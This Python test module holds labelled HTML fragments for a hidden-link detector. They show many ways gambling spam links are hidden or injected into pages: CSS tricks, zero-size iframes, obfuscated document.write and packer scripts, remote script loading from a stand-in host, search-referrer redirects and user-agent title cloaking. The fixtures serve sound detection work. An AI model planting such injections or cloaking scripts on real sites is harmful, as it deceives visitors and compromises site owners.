"""Labelled hidden links: every technique A–G of the crawl facts that can be decided without running scripts.

Each case is a fragment that is put into the body of a realistic page (tests/quality/portal.py); those that
need the head or a linked style sheet say so.
"""

from __future__ import annotations

from dataclasses import dataclass

TARGET = "http://x.example/"
TEXTS = ("时时彩平台", "北京赛车pk10", "传奇私服发布网", "澳门新葡京娱乐", "代开发票", "六合彩资料")


@dataclass(frozen=True)
class Case:
    """`head` and `body` fragments and the text of the linked style sheet /css/site.css."""

    name: str
    body: str = ""
    head: str = ""
    sheet: str = ""


def link(number: int = 0, style: str = "", url: str = TARGET) -> str:
    """An anchor of the trade."""
    return f'<a href="{url}"{f" style={chr(34)}{style}{chr(34)}" if style else ""}>{TEXTS[number % len(TEXTS)]}</a>'


def boxed(style: str, inner: str | None = None, tag: str = "div") -> str:
    return f'<{tag} style="{style}">{inner or link()}</{tag}>'


def _inline() -> list[Case]:
    """A. An element or ancestor hidden by its own style."""
    styles = (
        "display:none", "DISPLAY : NONE !important", "display:none;", "dis\\70lay:none", "visibility:hidden", "visibility:collapse",
        "opacity:0", "opacity:0.0", "opacity:.01", "filter:alpha(opacity=0)", "filter:opacity(0)", "filter:opacity(0%)",
        "position:absolute;left:-9999px", "position:absolute;top:-999px", "position:absolute;right:-5000px", "position:fixed;bottom:-3000px",
        "margin-left:-9999px", "margin:-9999px 0 0 0", "margin:0 0 0 -9999px", "text-indent:-9999px", "transform:translateX(-9999px)",
        "transform:translate(-200%,-9999px)", "transform:translate3d(0,-9999px,0)", "position:absolute;left:-100em", "position:absolute;left:-300%",
        "position:absolute;left:calc(-100% - 5000px)", "inset:-9999px auto auto -9999px;position:absolute",
        "width:0;height:0;overflow:hidden", "height:1px;overflow:auto", "height:0px;overflow:hidden", "max-height:0;overflow:hidden", "line-height:0",
        "line-height:0;overflow:hidden", "width:1px;height:1px;overflow:hidden", "overflow-y:hidden;height:0", "max-width:0;overflow:hidden;white-space:nowrap",
        "font-size:0", "font-size:1px", "font-size:0px;", "font:0/0 a", "font-size:0.01em", "font-size:0%", "color:#fff;background:#ffffff",
        "color:#fefefe;background-color:#fff", "color:transparent", "color:rgba(0,0,0,0)", "color:rgb(255 255 255 / 0)", "color:#ffffff00", "color:hsla(0,0%,100%,0)",
        "color:white;background-color:white", "color:#eee;background:#f0f0f0", "color:hsl(0,0%,100%);background:hsl(0,0%,100%)",
        "position:absolute;clip:rect(0 0 0 0)", "position:absolute;clip:rect(0,0,0,0)", "clip:rect(1px,1px,1px,1px);position:absolute", "clip-path:inset(100%)",
        "clip-path:inset(50% 50% 50% 50%)", "clip-path:polygon(0 0,0 0,0 0)", "clip-path:polygon(0 0, 0 0, 0 0, 0 0)", "clip-path:circle(0px at 0 0)", "transform:scale(0)", "transform:scale(0,0)",
        "transform:scaleY(0)", "scale:0", "zoom:0.01", "position:absolute;z-index:-1", "content-visibility:hidden", "transform:rotateX(90deg)", "position:absolute;left:3000px",
    )  # fmt: skip
    cases = [Case(f"A {style}", boxed(style)) for style in styles]
    return [
        *cases,
        Case("A on the anchor", link(style="display:none")),
        Case("A entity-coded style", f'<div style="&#100;isplay:none">{link()}</div>'),
        Case("A comment in style", f'<div style="display:/**/none">{link()}</div>'),
        Case("A grand-parent", boxed("display:none", f"<p><span>{link(1)}</span></p>")),
        Case("A table cell", f'<table><tr><td style="display:none">{link(2)}</td></tr></table>'),
        Case("A table row", f'<table><tr style="display:none"><td>{link(3)}</td></tr></table>'),
        Case("A inherited background", f'<div style="background:#fff"><p style="color:#fff">{link()}</p></div>'),
        Case("A bgcolor", f'<table bgcolor="#ffffff"><tr><td><font color="#ffffff">{link(style="color:#fff")}</font></td></tr></table>'),
        Case("A font on white", f'<font color="#ffffff">{link(style="color:inherit")}</font>'),
        Case("A hidden attribute", f"<div hidden>{link()}</div>"),
        Case("A hidden until-found", f'<div hidden="until-found">{link(1)}</div>'),
        Case("A closed details", f"<details><summary></summary>{link(1)}</details>"),
        Case("A template", f"<template>{link(1)}</template>"),
        Case("A noscript", f"<noscript>{link(1)}</noscript>"),
        Case("A aria and far away", f'<div aria-hidden="true" style="position:absolute;left:-9999px">{link()}</div>'),
        Case("A many in one box", boxed("display:none", " ".join(link(n, url=f"http://x{n}.example/") for n in range(6)))),
        Case("A neutral text", boxed("position:absolute;left:-9999px", '<a href="http://x.example/">点击进入</a>')),
        Case("A neutral text, zero font", boxed("font-size:0", '<a href="http://x.example/">网上平台</a>')),
        Case("A separated letters", boxed("display:none", '<a href="http://x.example/">时·时·彩</a>')),
        Case("A full-width letters", boxed("display:none", '<a href="http://x.example/">ＰＫ１０开奖</a>')),
        Case("A many neutral in one box", boxed("display:none", " ".join(f'<a href="http://x{n}.x.example/">网上商城{n}</a>' for n in range(5)))),
        Case("A planted on the site", boxed("display:none", '<a href="http://www.x.example.edu.cn/a.html">时时彩平台</a>')),
        Case("A look-alike letters", boxed("display:none", '<a href="http://x.example/">亚愽体育</a>')),
    ]  # fmt: skip


def _tags() -> list[Case]:
    """B. Tags that hide, and places that are no links to see."""
    return [
        Case("B marquee", f'<marquee height="1" width="4" scrollamount="3000" scrolldelay="20000">{link()}</marquee>'),
        Case("B marquee width 0", f"<marquee width=0>{link()}</marquee>"),
        Case("B marquee by style", f'<marquee style="height:1px;width:2px">{link()}</marquee>'),
        Case("B iframe 0", f'<iframe src="{TARGET}" width=0 height=0 frameborder=0></iframe>'),
        Case("B iframe 1", f'<iframe src="{TARGET}" width="1" height="1"></iframe>'),
        Case("B iframe none", f'<iframe src="{TARGET}" style="display:none"></iframe>'),
        Case("B iframe far", f'<iframe src="{TARGET}" style="position:absolute;top:-3000px"></iframe>'),
        Case("B iframe sized by style", f'<iframe src="{TARGET}" style="width:0;height:0;border:0"></iframe>'),
        Case("B embed", f'<embed src="{TARGET}" width=0 height=0>'),
        Case("B object", f'<object data="{TARGET}" width=0 height=0></object>'),
        Case("B empty anchor", f'<a href="{TARGET}"></a>'),
        Case("B anchor on a stop", f'<p>会议结束<a href="{TARGET}">。</a></p>'),
        Case("B one pixel image", f'<a href="{TARGET}"><img src="a.gif" width=1 height=1></a>'),
        Case("B one pixel by style", f'<a href="{TARGET}"><img src="a.gif" style="width:1px;height:1px"></a>'),
        Case("B zero width text", f'<a href="{TARGET}">\u200b\ufeff</a>'),
        Case("B blank text", f'<a href="{TARGET}">&nbsp;</a>'),
        Case("B tiny area", f'<map name=m><area shape=rect coords="0,0,1,1" href="{TARGET}"></map>'),
        Case("B option", f'<select style="display:none"><option value="{TARGET}">时时彩</option></select>'),
        Case("B foreign form", '<form action="http://x.example/post" style="display:none"><input type=hidden name=a></form>'),
        Case("B data attribute", f'<div data-url="{TARGET}">六合彩</div>'),
        Case("B other data attribute", f'<span data-go="{TARGET}">北京赛车</span>'),
        Case("B comment", f"<!-- {link()} -->"),
        Case("B comment many", f"<!--{link(1)} {link(2)}-->"),
        Case("B svg anchor", f'<svg width=0 height=0><a xlink:href="{TARGET}"><text>时时彩</text></a></svg>'),
        Case("B dialog", f"<dialog>{link(1)}</dialog>"),
        Case("B frame contents", f"<iframe width=0 height=0 srcdoc=\"&lt;a href='{TARGET}'&gt;时时彩&lt;/a&gt;\"></iframe>"),
        Case("B data markup", f'<div data-html="&lt;a href=&quot;{TARGET}&quot;&gt;时时彩&lt;/a&gt;"></div>'),
        Case("B json-ld", '<script type="application/ld+json">{"@type":"WebSite","name":"时时彩平台","url":"http://x.example/"}</script>'),
        Case("B base", head=f'<base href="{TARGET}">'),
        Case("B canonical", head=f'<link rel="canonical" href="{TARGET}">'),
        Case("B refresh", head=f'<meta http-equiv="refresh" content="0;url={TARGET}">'),
        Case("B onclick", f"<div style='display:none' onclick=\"location.href='{TARGET}'\">澳门新葡京</div>"),
    ]  # fmt: skip


def _sheets() -> list[Case]:
    """C. Style sheets: blocks, linked ones, specificity, media, order, variables, imports."""
    return [
        Case("C block class", f'<div class="zz">{link()}</div>', head="<style>.zz{display:none}</style>"),
        Case("C block id", f'<div id="zz">{link()}</div>', head="<style>#zz{position:absolute;left:-999em}</style>"),
        Case("C linked", f'<div class="far">{link()}</div>', sheet=".far{position:absolute;top:-9999px}"),
        Case("C linked minified", f'<p class="f1">{link(1)}</p>', sheet="a{color:red}.f0,.f1{font-size:0;line-height:0}"),
        Case("C specificity", f'<div class="a b">{link()}</div>', head="<style>div.a.b{display:none} .a{display:block}</style>"),
        Case("C important", f'<div class="a" style="display:block">{link()}</div>', head="<style>.a{display:none!important}</style>"),
        Case("C desktop only", f'<div class="a">{link()}</div>', head="<style>@media (min-width:1000px){.a{display:none}}</style>"),
        Case("C screen", f'<div class="a">{link()}</div>', head="<style>@media screen and (min-width:0){.a{height:0;overflow:hidden}}</style>"),
        Case("C after the element", f"<div id=q>{link()}</div><style>#q{{position:absolute;left:-5000px}}</style>"),
        Case("C escape", f"<div class=zz>{link()}</div>", head="<style>.zz{displ\\61y:none}</style>"),
        Case("C escaped selector", f'<div class="z:1">{link()}</div>', head="<style>.z\\:1{display:none}</style>"),
        Case("C child", f'<div class="o"><p>{link()}</p></div>', head="<style>.o > p{text-indent:-9999px}</style>"),
        Case("C nth", f'<ul class="o"><li>公告</li><li>{link()}</li></ul>', head="<style>.o li:nth-child(2){font-size:0}</style>"),
        Case("C last", f'<div class="o"><p>公告</p><p>{link()}</p></div>', head="<style>.o p:last-child{display:none}</style>"),
        Case("C attribute", f'<div rel="k">{link()}</div>', head='<style>div[rel="k"]{opacity:0}</style>'),
        Case("C variable", f'<div class="v">{link()}</div>', head="<style>:root{--x:none}.v{display:var(--x)}</style>"),
        Case("C variable fallback", f'<div class="v">{link()}</div>', head="<style>.v{font-size:var(--y,0)}</style>"),
        Case("C not", f'<div class="n"><p>{link()}</p></div>', head="<style>.n p:not(.show){display:none}</style>"),
        Case("C supports", f'<div class="s">{link()}</div>', head="<style>@supports (display:block){.s{display:none}}</style>"),
        Case("C layer", f'<div class="s">{link()}</div>', head="<style>@layer x{.s{position:absolute;left:-9999px}}</style>"),
        Case("C same colour", f'<div class="w">{link(style="color:inherit")}</div>', head="<style>.w{background:#fff;color:#fff}</style>"),
        Case("C nested", f'<div class="p"><b>{link()}</b></div>', head="<style>.p{color:red; & b{display:none}}</style>"),
    ]  # fmt: skip


def _scripts() -> list[Case]:
    """D. Scripts, read but not run."""
    coded = "".join(f"%{ord(c):02x}" for c in "<a href='http://x.example/'>") + "%u65F6%u65F6%u5F69</a>"
    codes = ",".join(str(ord(c)) for c in "<a href='http://x.example/'>时时彩</a>")
    hexed = "".join(f"\\x{ord(c):02x}" for c in "<iframe src='http://x.example/'>")
    return [
        Case("D write around", f"<script>document.write(\"<div style='display:none'>\");</script>{link()}<script>document.write('</div>');</script>"),
        Case("D write around, plus", f"<script>document.write('<div style=\"position:absolute;'+'left:-999px\">');</script>{link()}<script>document.write('</div>')</script>"),
        Case("D writeln", f"<script>document.writeln(\"<a href='{TARGET}'>时时彩</a>\")</script>"),
        Case("D id hidden", f'<div id=zz>{link()}</div><script>document.getElementById("zz").style.display="none"</script>'),
        Case("D id hidden later", f"<div id=zz>{link()}</div><script>var e=document.getElementById('zz');e.style.display='none';</script>"),
        Case("D jquery hide", f'<div id=zz>{link()}</div><script>$("#zz").hide()</script>'),
        Case("D jquery css", f'<div id=zz>{link()}</div><script>$("#zz").css("display","none")</script>'),
        Case("D css text", f"<div id=zz>{link()}</div><script>document.getElementById('zz').style.cssText='display:none'</script>"),
        Case("D height", f"<div id=zz>{link()}</div><script>document.getElementById('zz').style.height='0px'</script>"),
        Case("D query selector", f"<div id=zz>{link()}</div><script>document.querySelector('#zz').style.display='none'</script>"),
        Case("D class by query", f"<div class=zy>{link()}</div><script>document.querySelector('.zy').style.display='none'</script>"),
        Case("D class by jquery", f"<div class=zy>{link()}</div><script>$('.zy').hide();</script>"),
        Case("D unescape", f"<script>document.write(unescape('{coded}'))</script>"),
        Case("D char codes", f"<script>document.write(String.fromCharCode({codes}))</script>"),
        Case("D hex", f'<script>document.write("{hexed}")</script>'),
        Case("D unicode", "<script>document.write('\\u003ca href=\"http://x.example/\"\\u003e\\u65f6\\u65f6\\u5f69\\u003c/a\\u003e')</script>"),
        Case("D atob", "<script>document.write(atob('PGEgaHJlZj0iaHR0cDovL3guZXhhbXBsZS8iPnBrMTA8L2E+'))</script>"),
        Case("D packer", "<script>eval(function(p,a,c,k,e,d){return p}('0.1(\"<2 3=\\\\\\'4://5.6/\\\\\\'></2>\")',7,7,'document|write|iframe|src|http|x|example'.split('|'),0,{}))</script>"),
        Case("D concatenated", "<script>document.write('<a hr'+'ef=\"http://x.exa'+'mple/\">时时'+'彩</a>')</script>"),
        Case("D bracket write", "<script>window[\"\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74\"][\"\\x77\\x72\\x69\\x74\\x65\"](\"<script src='http://x.example/k.js'><\\/script>\")</script>"),
        Case("D string array", "<script>var __Ox1=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x78\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f','\\x69\\x66\\x72\\x61\\x6d\\x65'];var f=document.createElement(__Ox1[1]);f.src=__Ox1[0];document.body.appendChild(f)</script>"),
        Case("D inner html", f"<div id=k></div><script>document.getElementById('k').innerHTML='<a href=\"{TARGET}\">六合彩</a>'</script>"),
        Case("D coded script address", '<script src="&#104;&#116;&#116;&#112;&#58;&#47;&#47;&#120;&#46;&#101;&#120;&#97;&#109;&#112;&#108;&#101;&#47;&#106;&#46;&#106;&#115;"></script>'),
        Case("D foreign one-letter script", '<script src="https://x.example/k8qp.js"></script>'),
        Case("D overlay", f"<script>document.write('<meta name=viewport content=\"width=device-width\"><style>html,body{{overflow:hidden}}</style><iframe src=\"{TARGET}\" style=\"position:fixed;width:100%;height:100%\"></iframe>')</script>"),
        Case("D plain overlay", f'<iframe src="{TARGET}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"></iframe>'),
        Case("D referrer", f'<script>if(document.referrer.indexOf("baidu")>0){{location.href="{TARGET}"}}</script>'),
        Case("D referrer regexp", f"<script>var r=document.referrer;if(/baidu|sogou|so\\.com/i.test(r)){{window.location.replace('{TARGET}')}}</script>"),
        Case("D user agent", f"<script>if(/Android|iPhone/i.test(navigator.userAgent)&&document.referrer.indexOf('baidu')!=-1){{top.location='{TARGET}'}}</script>"),
        Case("D style attribute", f'<div id=zz>{link()}</div><script>document.getElementById("zz").setAttribute("style","display:none")</script>'),
        Case("D style text far away", f"<div id=zz>{link()}</div><script>var e=document.getElementById('zz');e.style.cssText='position:absolute;left:-9999px'</script>"),
        Case("D class added", f'<style>.oo{{display:none}}</style><div id=zz>{link()}</div><script>document.getElementById("zz").classList.add("oo")</script>'),
        Case("D removed", f'<div id=zz>{link()}</div><script>document.getElementById("zz").remove()</script>'),
        Case("D char codes applied", f"<script>document.write(String.fromCharCode.apply(null,[{codes}]))</script>"),
        Case("D char codes in an array", f"<script>var a=[{codes}],s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]);document.write(s)</script>"),
        Case("D joined", f"<script>document.write(['<a href=\"{TARGET}\">时时彩','</a>'].join(''))</script>"),
        Case("D names", "<script>var p='http://x.',q='example',t='时时彩';document.write('<a href=\"'+p+q+'/\">'+t+'</a>')</script>"),
        Case("D created script", "<script>(function(){var s=document.createElement('script');s.src='http://x.example/b.js?'+Math.random();document.head.appendChild(s)})()</script>"),
    ]  # fmt: skip


def _head() -> list[Case]:
    """E. The head taken over."""
    entity = "&#21271;&#20140;&#36187;&#36710;&#80;&#75;&#49;&#48;"
    hexes = "&#x5317;&#x4eac;&#x8d5b;&#x8f66;"
    restore = '<script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="新余市某局"}</script>'
    match = "<script>if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title='新余市某局'}</script>"
    return [
        Case("E entity title", head=f"<title>{entity}</title>{restore}"),
        Case("E hex entity title", head=f"<title>{hexes}</title>{restore}"),
        Case("E match", head=f"<title>{entity}</title>{match}"),
        Case("E plain title", head="<title>北京赛车pk10开奖直播_时时彩</title>"),
        Case("E entity keywords", head=f'<meta name="keywords" content="{entity},&#26102;&#26102;&#24425;">'),
        Case("E entity description", head=f'<meta name="description" content="{entity}&#12304;&#32593;&#22336;&#12305;">'),
        Case("E two titles", head="<title>时时彩投注平台</title>"),
        Case("E jargon", head='<meta name="description" content="亚愽体育【网址:13250.com】菠菜网排名">'),
        Case("E swap without words", head=f"<title>&#23448;&#26041;&#32593;&#31449;</title>{match}"),
    ]  # fmt: skip


def _sold() -> list[Case]:
    """G. Seen by everybody, but sold."""
    return [
        Case("G friend link", f'<div class="links">友情链接：<a href="http://www.gov.cn/">中国政府网</a> {link(3)}</div>'),
        Case("G replica", f'<div class="yqlj"><a href="{TARGET}">高仿手表</a></div>'),
        Case("G bad host", '<div class="links"><a href="http://www.bet365-cn.example/">友情合作</a></div>'),
        Case("G open redirect", '<div class="links"><a href="/link.php?url=http://x.example/">时时彩</a></div>'),
        Case("G short link", '<div class="links"><a href="http://t.cn/A6abcde">北京赛车</a></div>'),
        Case("G title attribute", f'<div class="links"><a href="{TARGET}" title="澳门威尼斯人">更多</a></div>'),
        Case("G image alt", f'<div class="links"><a href="{TARGET}"><img src="/a.gif" alt="时时彩平台"></a></div>'),
    ]  # fmt: skip


CASES: tuple[Case, ...] = (*_inline(), *_tags(), *_sheets(), *_scripts(), *_head(), *_sold())
